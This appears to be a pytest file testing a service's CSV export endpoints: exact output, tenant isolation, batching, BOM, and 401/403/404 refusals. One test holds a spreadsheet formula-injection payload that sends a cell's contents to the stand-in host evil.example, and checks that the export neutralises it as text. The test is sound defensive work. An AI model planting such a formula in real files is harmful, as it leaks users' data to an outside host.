"""CSV export at /export/*.csv: exact content, streamed in batches, BOM on request, another
organisation's rows never, and the refusals (no token 401, viewer and agent ledger 403)."""

from __future__ import annotations

import csv
import io

import pytest

from domain.roles import Role
from resolvers.store import exports
from schema.types.relay import to_global_id
from tests.api.test_imports import CUSTOMERS, TICKETS, run
from tests.factories import Org


async def fetch(org: Org, path: str, *, role: Role = Role.OWNER) -> tuple[int, str, bytes]:
    token = await org.token_for(role)
    response = await org.client.get(path, headers={"Authorization": f"Bearer {token}"})
    return response.status_code, response.headers["content-type"], response.content


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"))))


async def ids(org: Org, table: str) -> list[str]:
    async with org.pool.acquire() as conn:
        found = await conn.fetch(f"SELECT id FROM {table} WHERE org_id = $1 ORDER BY id", org.id)
    kind = {"customers": "Customer", "tickets": "Ticket", "ledger": "LedgerEntry"}[table]
    return [to_global_id(kind, row["id"]) for row in found]


async def test_exports_customers_exactly_and_only_its_own(org: Org, other_org: Org) -> None:
    await run(org, CUSTOMERS)
    await run(other_org, "external_id,name,subscription_started_at\nz,Other Org Co,2026-01-01\n")
    status, kind, content = await fetch(org, "/export/customers.csv")
    assert (status, kind) == (200, "text/csv; charset=utf-8")
    first, second = await ids(org, "customers")
    created = "2026-11-01T09:00:00+00:00"
    assert content.decode() == (
        "id,external_id,name,locale,bundle,stage,subscription_status,subscription_started_at,"
        "renews_at,contact_email,last_activity_at,archived_at,created_at\r\n"
        f"{first},c-1,شركة الأفق,ar,growth_starter,onboarding,pilot,2026-01-04T21:00:00+00:00,"
        f",ops@ofuq.sa,,,{created}\r\n"
        f"{second},c-2,Najd Trading,en,executive_growth_os,onboarding,pilot,"
        f"2026-02-01T10:00:00+00:00,,,,,{created}\r\n"
    )
    assert "Other Org Co" not in content.decode()


async def test_exports_tickets_with_multiline_bodies(org: Org) -> None:
    await run(org, CUSTOMERS)
    await run(org, TICKETS, tickets=True)
    status, _, content = await fetch(org, "/export/tickets.csv", role=Role.VIEWER)
    assert status == 200
    rows = rows_of(content)
    assert rows[0] == list(exports.COLUMNS["tickets"])
    customers = await ids(org, "customers")
    tickets = await ids(org, "tickets")
    assert rows[1:] == [
        [
            tickets[0],
            "t-1",
            customers[0],
            "c-1",
            "Invoice question",
            "When is my invoice due?",
            "email",
            "P3",
            "resolved",
            "2026-10-01T08:00:00+00:00",
            "2026-10-01T09:00:00+00:00",
            "2026-10-02T08:00:00+00:00",
            "",
            "2026-10-01T08:15:00+00:00",  # the payment support mode's 15 minutes ("invoice")
            "2026-10-08T08:00:00+00:00",
        ],
        [
            tickets[1],
            "t-2",
            customers[1],
            "c-2",
            "تسريب بيانات العملاء",
            "لا يمكننا الدخول\nإطلاقاً",
            "whatsapp",
            "P0",
            "open",
            "2026-10-30T08:00:00+00:00",
            "",
            "",
            "",
            "2026-10-30T08:30:00+00:00",
            "2026-10-30T12:00:00+00:00",
        ],
    ]


async def test_exports_the_ledger_for_managers_in_batches(
    org: Org, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "BATCH", 1)
    await run(org, CUSTOMERS)
    await run(org, CUSTOMERS)
    status, _, content = await fetch(org, "/export/ledger.csv?bom=1", role=Role.MANAGER)
    assert status == 200
    assert content.startswith("\ufeffid,at,operator_id,".encode())
    rows = rows_of(content.removeprefix("\ufeff".encode()))
    entries = await ids(org, "ledger")
    assert [row[0] for row in rows[1:]] == entries
    assert [(row[3], row[4], row[5], row[8]) for row in rows[1:]] == [
        (
            "owner",
            "importCustomers",
            "ImportJob",
            '{"created": 2, "existing": 0, "invalid": 0, "kind": "customers", "total": 2}',
        ),
        (
            "owner",
            "importCustomers",
            "ImportJob",
            '{"created": 0, "existing": 2, "invalid": 0, "kind": "customers", "total": 2}',
        ),
    ]


async def test_a_cell_that_starts_like_a_formula_leaves_as_text_and_comes_back(
    org: Org, other_org: Org
) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    quoted = name.replace('"', '""')
    await run(org, f'external_id,name,subscription_started_at\n@c-1,"{quoted}",2026-01-01\n')
    _, _, content = await fetch(org, "/export/customers.csv")
    row = rows_of(content)[1]
    assert (row[1], row[2]) == ("'@c-1", "'" + name)
    # The exported cells import as they were: the apostrophes come off again.
    out = io.StringIO()
    csv.writer(out).writerows(
        [["external_id", "name", "subscription_started_at"], [*row[1:3], "2026-01-01"]]
    )
    await run(other_org, out.getvalue())
    async with other_org.pool.acquire() as conn:
        found = await conn.fetchrow(
            "SELECT k.external_id, c.name FROM customers c JOIN import_keys k "
            "ON k.org_id = c.org_id AND k.entity_id = c.id WHERE c.org_id = $1",
            other_org.id,
        )
    assert (found["external_id"], found["name"]) == ("@c-1", name)


async def test_an_empty_export_is_its_header(org: Org) -> None:
    status, _, content = await fetch(org, "/export/customers.csv")
    assert (status, content) == (200, (",".join(exports.COLUMNS["customers"]) + "\r\n").encode())


@pytest.mark.parametrize("role", [Role.VIEWER, Role.AGENT])
async def test_ledger_export_is_refused_below_manager(org: Org, role: Role) -> None:
    status, kind, content = await fetch(org, "/export/ledger.csv", role=role)
    assert (status, kind) == (403, "application/json")
    assert content.decode() == (
        '{"errors":[{"message":"role ' + role.value + ' may not read_ledger",'
        '"extensions":{"code":"FORBIDDEN","field":"export.ledger"}}]}'
    )


@pytest.mark.parametrize("header", [None, "Bearer not-a-token", "Basic abc"])
async def test_export_without_a_valid_token_is_401_json(org: Org, header: str | None) -> None:
    headers = {} if header is None else {"Authorization": header}
    response = await org.client.get("/export/customers.csv", headers=headers)
    assert response.status_code == 401
    assert response.json() == {
        "errors": [
            {
                "message": "a valid bearer token is required",
                "extensions": {"code": "UNAUTHENTICATED", "field": "export"},
            }
        ]
    }


async def test_unknown_export_is_404(org: Org) -> None:
    status, _, _ = await fetch(org, "/export/operators.csv")
    assert status == 404
